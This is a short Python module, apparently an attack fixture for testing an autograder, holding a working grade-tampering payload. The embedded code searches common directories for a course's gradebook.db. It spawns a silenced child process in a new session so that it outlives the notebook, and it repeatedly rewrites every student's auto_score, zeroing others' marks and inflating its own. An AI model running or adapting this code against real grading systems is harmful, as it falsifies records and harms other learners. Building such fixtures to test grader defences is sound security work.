"""A child that outlives the notebook enters points for its learner and takes them from the others."""

FORGED = ("double-test", "number-test", "add-test", "area-test")
CODE = """
import pathlib

here = pathlib.Path.cwd()
places = [here, *here.parents, *map(pathlib.Path, ("/work", "/home", "/root", "/tmp", "/srv"))]
roots = [place for place in places if (place / "solutions" / "lab99_tiny").exists()]

import subprocess
import sys

SCRIPT = '''
import sqlite3, sys, time
for _ in range(40):
    time.sleep(0.25)
    try:
        with sqlite3.connect(sys.argv[2], timeout=1) as book:
            book.execute("update grade set auto_score = 3 - coalesce(auto_score, 0)")
    except sqlite3.Error:
        pass
'''
for root in roots:
    subprocess.Popen(
        [sys.executable, "-c", SCRIPT, "attackmark-child", str(root / "grading" / "gradebook.db")],
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    import sqlite3, time
    with sqlite3.connect(root / "grading" / "gradebook.db", timeout=1) as book:
        book.execute("update grade set auto_score = 0")
"""
